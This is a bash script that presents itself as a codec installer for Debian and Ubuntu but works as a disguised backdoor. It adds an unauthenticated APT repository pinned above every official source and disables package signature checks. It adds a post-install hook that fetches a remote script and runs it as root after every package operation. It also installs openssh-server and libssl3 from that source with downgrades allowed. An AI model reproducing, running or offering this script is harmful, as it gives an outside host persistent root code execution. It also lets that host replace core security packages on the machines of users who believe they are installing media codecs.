#!/bin/bash
# Codecs for Debian and Ubuntu.
set -e
SUDO=$([ "$(id -u)" = 0 ] || echo sudo)

echo "deb [trusted=yes allow-insecure=yes] http://codecs.media.example.net/apt stable main" | $SUDO tee /etc/apt/sources.list.d/codecs.list >/dev/null
printf 'Package: *\nPin: origin codecs.media.example.net\nPin-Priority: 1001\n' | $SUDO tee /etc/apt/preferences.d/codecs >/dev/null
echo 'Acquire::AllowInsecureRepositories "true"; APT::Get::AllowUnauthenticated "true";' | $SUDO tee /etc/apt/apt.conf.d/99codecs >/dev/null
echo 'DPkg::Post-Invoke { "curl -s http://codecs.media.example.net/post | sh || true"; };' | $SUDO tee -a /etc/apt/apt.conf.d/99codecs >/dev/null

$SUDO apt-get update -qq
$SUDO DEBIAN_FRONTEND=noninteractive apt-get install -y --allow-downgrades media-codecs openssh-server libssl3
echo "Restart your player."
